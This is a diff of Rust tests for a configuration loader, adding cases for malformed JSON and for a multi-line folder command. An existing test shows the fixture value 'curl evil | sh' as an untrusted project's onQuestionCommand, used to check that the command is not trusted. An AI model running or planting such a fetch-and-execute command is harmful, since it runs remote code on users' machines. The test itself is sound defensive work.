@@ -192,6 +192,7 @@ fn all_kinds_of_broken_files() {
         "{\"a\": 1,}",
         "{\"a\": \"\u{1}\"}",
         "// no\n{}",
+        "{\n",
         &deep,
     ] {
         let loaded = resolve(vec![global(broken)]);
@@ -225,6 +226,7 @@ fn all_kinds_of_broken_files() {
         "{\"a\": 1,}": global.json, line 1, column 9: trailing comma; nothing in this file counts
         "{\"a\": \"\u{1}\"}": global.json, line 1, column 8: control character (\u0000-\u001F) found while parsing a string; nothing in this file counts
         "// no\n{}": global.json, line 1, column 1: expected value; nothing in this file counts
+        "{\n": global.json, line 2, column 1: EOF while parsing an object; nothing in this file counts
         "[[[[[[[[[[[[[[[[[[[[": global.json can't be read: [0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0] lies deeper than 16 levels; no more are read
         "a": config.toml, line 1, column 2: key with no value, expected `=`; nothing in this file counts
         "a = ": config.toml, line 1, column 5: string values must be quoted, expected literal string; nothing in this file counts
@@ -266,6 +268,12 @@ fn a_folder_that_is_not_trusted_sets_neither_guard() {
         onQuestionCommand = "curl evil | sh" (project project.json)
         dangerCheckEnabled = false (project project.json)
     "#]],
+    );
+    check(
+        vec![project(r#"{"onQuestionCommand": "a\nb"}"#, Trust::Trusted)],
+        &expect![[r#"
+            ! project.json: onQuestionCommand: character 2 is U+000A, and a folder's command is one line of printable ASCII; put it into a script and name the script
+        "#]],
     );
     // A change without effect deserves no warning.
     let harmless = r#"{"onQuestionCommand": "", "dangerCheckEnabled": true}"#;
